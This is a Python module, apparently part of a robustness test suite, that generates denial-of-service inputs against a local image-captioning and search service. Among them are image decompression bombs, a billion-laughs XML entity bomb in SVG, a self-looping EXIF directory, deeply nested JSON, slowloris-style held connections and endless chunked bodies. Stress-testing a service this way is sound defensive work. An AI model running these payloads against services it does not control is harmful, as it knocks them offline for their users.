"""What `hostile.py` sends: files and requests that are meant to hold up the service or to fill its memory.

Each attack is a function that is given the address of the service and a moment at which to stop, and returns
what became of its requests. The files are made here, by hand where no encoder writes them.
"""

from __future__ import annotations

import io
import json
import random
import socket
import struct
import time
import zlib
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from functools import cache
from http.client import HTTPConnection, HTTPException
from typing import NamedTuple

import numpy as np
from PIL import Image

PATIENCE = 60.0
"""Seconds after which a client gives up; far beyond the service's deadline."""


class Answer(NamedTuple):
    """What became of a request: its status (0: the connection was closed, -1: nothing came) and how long
    that took."""

    status: int
    seconds: float


Attack = Callable[[int, float], list[Answer]]


def ask(
    port: int, method: str, path: str, body: bytes = b"", headers: dict[str, str] | None = None
) -> Answer:
    """One request as an ordinary client sends it."""
    began = time.monotonic()
    connection = HTTPConnection("127.0.0.1", port, timeout=PATIENCE)
    try:
        connection.request(method, path, body or None, headers or {})
        answer = connection.getresponse()
        answer.read()
        status = answer.status
    except TimeoutError:
        status = -1
    except (OSError, HTTPException):
        status = 0
    finally:
        connection.close()
    return Answer(status, time.monotonic() - began)


def repeated(
    port: int, until: float, clients: int, requests: Iterator[tuple[str, str, bytes]]
) -> list[Answer]:
    """The same kind of request again and again, from several clients at a time."""

    def client(_: int) -> list[Answer]:
        found = []
        while time.monotonic() < until:
            found.append(ask(port, *next(requests)))
        return found

    with ThreadPoolExecutor(clients) as threads:
        return [answer for answers in threads.map(client, range(clients)) for answer in answers]


class _Same:
    """One request for ever; several threads may ask at a time."""

    def __init__(self, method: str, path: str, body: bytes) -> None:
        self._request = method, path, body

    def __iter__(self) -> _Same:
        return self

    def __next__(self) -> tuple[str, str, bytes]:
        return self._request


def pictures(make: Callable[[], bytes], clients: int = 6) -> Attack:
    """A file that is sent to be captioned."""

    def attack(port: int, until: float) -> list[Answer]:
        return repeated(port, until, clients, _Same("POST", "/caption", made(make)))

    return attack


made = cache(lambda make: make())


# Files.


def encoded(image: Image.Image, kind: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


def many_scans(count: int) -> Callable[[], bytes]:
    """A valid progressive JPEG of 49 megapixels whose last scan comes again and again."""

    def make() -> bytes:
        content = encoded(Image.new("L", (7_000, 7_000), 90), "JPEG", progressive=True)
        last = content.rindex(b"\xff\xda")
        return content[:last] + content[last:-2] * count + content[-2:]

    return make


def float_tiff() -> bytes:
    return encoded(Image.new("F", (7_000, 7_000), 0.5), "TIFF", compression="tiff_deflate")


def png_chunk(kind: bytes, content: bytes) -> bytes:
    checked = kind + content
    return struct.pack(">I", len(content)) + checked + struct.pack(">I", zlib.crc32(checked))


def png(width: int, height: int, colour: int, depth: int, chunks: bytes = b"") -> bytes:
    """A PNG whose pixels are all there, and nothing but zeros."""
    row = 1 + width * {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour] * depth // 8
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(row)) for _ in range(height)) + packer.flush()
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    palette = png_chunk(b"PLTE", bytes(768)) if colour == 3 else b""
    return b"\x89PNG\r\n\x1a\n" + head + palette + chunks + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")


def icon() -> bytes:
    inner = png(13_000, 13_000, 2, 8)
    return struct.pack("<HHHBBBBHHII", 0, 1, 1, 64, 64, 0, 0, 1, 32, len(inner), 22) + inner


def text_bomb() -> bytes:
    """A small picture with a hundred compressed texts of a megabyte each."""
    text = b"Comment\0\0" + zlib.compress(bytes(2**20), 9)
    return png(64, 64, 2, 8, png_chunk(b"zTXt", text) * 100 + png_chunk(b"iCCP", b"x\0\0" + text[9:]))


def tiff(tags: list[tuple[int, int, int, int]], data: bytes) -> bytes:
    """A TIFF of one directory; data begins at byte 8, the directory follows it."""
    entries = b"".join(struct.pack("<HHII", *tag) for tag in sorted(tags))
    return (
        struct.pack("<2sHI", b"II", 42, 8 + len(data))
        + data
        + struct.pack("<H", len(tags))
        + entries
        + bytes(4)
    )


def strips() -> bytes:
    """As many strips as rows, a million of them, all the same ones."""
    rows = 1_000_000
    offsets, counts = struct.pack("<I", 8) * rows, struct.pack("<I", 40) * rows
    data = bytes(40) + offsets + counts
    sizes = [
        (256, 4, 1, 40),
        (257, 4, 1, rows),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (278, 4, 1, 1),
    ]
    return tiff([*sizes, (273, 4, rows, 48), (279, 4, rows, 48 + 4 * rows)], data)


def huge_tile() -> bytes:
    sizes = [(256, 4, 1, 64), (257, 4, 1, 64), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1), (277, 3, 1, 1)]
    tile = [(322, 4, 1, 40_000), (323, 4, 1, 40_000), (324, 4, 1, 8), (325, 4, 1, 40)]
    return tiff(sizes + tile, zlib.compress(bytes(64)).ljust(40, b"\0"))


def lying_avif() -> bytes:
    """Its header says 64 x 64, the frame inside has 36 megapixels."""
    content = encoded(Image.new("RGB", (6_000, 6_000), (9, 90, 200)), "AVIF", quality=30, speed=10)
    return content.replace((6_000).to_bytes(4, "big") * 2, (64).to_bytes(4, "big") * 2)


def avif() -> bytes:
    return encoded(Image.effect_noise((2_000, 1_500), 80).convert("RGB"), "AVIF", quality=70, speed=10)


def tiles_2000() -> bytes:
    """JPEG 2000 in sixteen thousand tiles."""
    image = Image.new("RGB", (2_000, 2_000), (9, 90, 200))
    return encoded(image, "JPEG2000", tile_size=(16, 16), num_resolutions=1)


def frames(kind: str, count: int) -> Callable[[], bytes]:
    """An animation of many frames."""

    def make() -> bytes:
        shades = [Image.new("RGB", (300, 300), (i % 256, i // 256, 7)) for i in range(count)]
        return encoded(shades[0], kind, save_all=True, append_images=shades[1:], duration=20)

    return make


def stereo() -> bytes:
    """An MPO of 300 pictures."""
    shades = [Image.new("RGB", (64, 64), (i % 256, 0, 0)) for i in range(300)]
    return encoded(shades[0], "MPO", save_all=True, append_images=shades[1:])


def qoi() -> bytes:
    """49 megapixels of one colour in 800 kB."""
    return (
        struct.pack(">4sIIBB", b"qoif", 7_000, 7_000, 3, 0)
        + b"\xfd" * (49_000_000 // 62 + 1)
        + bytes(7)
        + b"\1"
    )


def bitmap() -> bytes:
    """A BMP whose header says two thousand million rows."""
    return struct.pack(
        "<2sIIIIiiHHIIiiII", b"BM", 1000, 0, 54, 40, 2**31 - 1, 2**31 - 1, 1, 24, 0, 0, 0, 0, 0, 0
    )


def exif_loop() -> bytes:
    """Directories of EXIF that name themselves as their next one."""
    directory = struct.pack("<HHHIIHHIII", 2, 0x8769, 4, 1, 8, 0x8825, 4, 1, 8, 8)
    exif = b"Exif\0\0" + struct.pack("<2sHI", b"II", 42, 8) + directory
    content = encoded(Image.new("RGB", (64, 64)), "JPEG")
    return content[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + content[2:]


def bomb_in_svg() -> bytes:
    entities = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10 if i else "ha"}">' for i in range(12))
    return f'<?xml version="1.0"?><!DOCTYPE svg [{entities}]><svg><text>&a11;</text></svg>'.encode()


def noise() -> bytes:
    return b"\xff\xd8\xff\xe0" + random.Random(1).randbytes(20 * 2**20 - 4)


def parts() -> bytes:
    part = b'--b\r\nContent-Disposition: form-data; name="x"\r\n\r\ny\r\n'
    return part * 100_000 + b"--b--\r\n"


# Requests.


def searches(port: int, until: float) -> list[Answer]:
    """Eight at a time, a hundred pictures each, with all their small copies."""
    body = json.dumps({"text": "a dog", "k": 100}).encode()

    def client(_: int) -> list[Answer]:
        found = []
        while time.monotonic() < until:
            began, connection = time.monotonic(), HTTPConnection("127.0.0.1", port, timeout=PATIENCE)
            try:
                connection.request("POST", "/search", body, {"Content-Type": "application/json"})
                answer = connection.getresponse()
                content = answer.read()
                found.append(Answer(answer.status, time.monotonic() - began))
                hits = json.loads(content).get("hits", []) if answer.status == 200 else []
                for hit in hits:
                    connection.request("GET", hit["picture"])
                    connection.getresponse().read()
            except (OSError, HTTPException):
                found.append(Answer(0, time.monotonic() - began))
            finally:
                connection.close()
        return found

    with ThreadPoolExecutor(8) as threads:
        return [answer for answers in threads.map(client, range(8)) for answer in answers]


def posted(path: str, body: bytes, kind: str = "application/json") -> Attack:
    """A body of another kind than a picture."""

    def attack(port: int, until: float) -> list[Answer]:
        found = []
        while time.monotonic() < until:
            found.append(ask(port, "POST", path, body, {"Content-Type": kind}))
        return found

    return attack


def long_address(port: int, until: float) -> list[Answer]:
    """A question of a million characters in the address."""
    body = encoded(Image.new("RGB", (30, 20)), "PNG")
    return repeated(port, until, 4, _Same("POST", "/ask?question=" + "a" * 10**6, body))


def held(first: bytes, count: int, then: bytes = b"", every: float = 0.5) -> Attack:
    """Connections that are opened and held; on each a little more is sent now and then, and nothing is
    read."""

    def attack(port: int, until: float) -> list[Answer]:
        with ExitStack() as opened:
            clients = []
            for _ in range(count):
                with suppress(OSError):
                    client = opened.enter_context(socket.create_connection(("127.0.0.1", port), timeout=2))
                    client.sendall(first)
                    clients.append(client)
            while time.monotonic() < until:
                time.sleep(every)
                for client in clients if then else ():
                    with suppress(OSError):
                        client.sendall(then)
        return []

    return attack


def head(path: str, *lines: str) -> bytes:
    return ("\r\n".join([f"POST {path} HTTP/1.1", "Host: 127.0.0.1", *lines]) + "\r\n\r\n").encode()


def picture_request(path: str) -> bytes:
    body = encoded(Image.effect_noise((320, 240), 60).convert("RGB"), "PNG")
    return head(path, f"Content-Length: {len(body)}") + body


def leaving(port: int, until: float) -> list[Answer]:
    """Clients that send a picture and leave at once."""
    large = made(large_png)
    request = head("/caption", f"Content-Length: {len(large)}") + large
    while time.monotonic() < until:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2) as client:
            client.sendall(request)
        time.sleep(0.02)
    return []


def large_png() -> bytes:
    return png(7_000, 7_000, 2, 8)


def pipelined(port: int, until: float) -> list[Answer]:
    """A thousand requests on one connection before the first answer is read."""
    found = []
    while time.monotonic() < until:
        began = time.monotonic()
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE) as client:
                client.sendall(b"GET /models HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 1000)
                start = client.recv(12)
            status = int(start[9:12]) if start.startswith(b"HTTP/1.1") and len(start) == 12 else 0
        except OSError:
            status = 0
        found.append(Answer(status, time.monotonic() - began))
    return found


def endless(port: int, until: float) -> list[Answer]:
    """Chunked bodies without an end, as fast as they are taken."""
    chunk = b"10000\r\n" + np.random.default_rng(1).bytes(2**16) + b"\r\n"

    def client(_: int) -> list[Answer]:
        found = []
        while time.monotonic() < until:
            began = time.monotonic()
            with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2) as opened:
                opened.sendall(head("/caption", "Transfer-Encoding: chunked"))
                for _ in range(2_000):
                    opened.sendall(chunk)
            found.append(Answer(0, time.monotonic() - began))
        return found

    with ThreadPoolExecutor(4) as threads:
        return [answer for answers in threads.map(client, range(4)) for answer in answers]


ATTACKS: dict[str, Attack] = {
    "JPEG of 3,000 scans, 49 MP": pictures(many_scans(3_000), 2),
    "six float TIFFs of 49 MP at a time": pictures(float_tiff),
    "icon with a PNG of 13,000 x 13,000": pictures(icon),
    "eight searches of k = 100 at a time": searches,
    "JPEG of 95 scans, 49 MP": pictures(many_scans(85), 2),
    "PNG of 49 MP": pictures(large_png),
    "grey PNG of 49 MP, 16 bits": pictures(lambda: png(7_000, 7_000, 0, 16)),
    "PNG with transparency, 16 bits, 25 MP": pictures(lambda: png(5_000, 5_000, 6, 16)),
    "PNG with 100 MB of text": pictures(text_bomb),
    "TIFF of a million strips": pictures(strips),
    "TIFF with a tile of 1,600 MP": pictures(huge_tile),
    "AVIF of 36 MP that says 64 x 64": pictures(lying_avif),
    "AVIF of 3 MP of noise": pictures(avif),
    "JPEG 2000 in 16,000 tiles": pictures(tiles_2000),
    "GIF of 1,000 frames": pictures(frames("GIF", 1_000)),
    "WebP of 300 frames": pictures(frames("WEBP", 300)),
    "MPO of 300 pictures": pictures(stereo),
    "QOI of 49 MP in 800 kB": pictures(qoi),
    "BMP of 4 x 10^18 pixels": pictures(bitmap),
    "EXIF that names itself": pictures(exif_loop),
    "SVG with a bomb of entities": pictures(bomb_in_svg),
    "20 MiB of noise": pictures(noise, 8),
    "form of 100,000 parts": posted("/caption", parts(), "multipart/form-data; boundary=b"),
    "JSON of 30,000 lists within lists": posted("/search", b"[" * 30_000),
    "search of a million characters": posted("/search", json.dumps({"text": "a" * 10**6}).encode()),
    "question of a million characters": long_address,
    "bodies without an end": endless,
    "1,000 requests on one connection": pipelined,
    "clients that leave at once": leaving,
    "100 connections that say nothing": held(b"", 100),
    "60 heads, a byte now and then": held(b"POST /caption HTTP/1.1\r\nHost: 127", 60, b"x"),
    "60 bodies, a byte now and then": held(head("/caption", "Content-Length: 100000"), 60, b"x"),
    "60 clients that read no answer": held(picture_request("/caption?trace=true&n_best=5"), 60),
    "200 streams that nobody reads": held(picture_request("/caption?stream=true"), 200),
}
"""By name; the first four are those that were found first."""
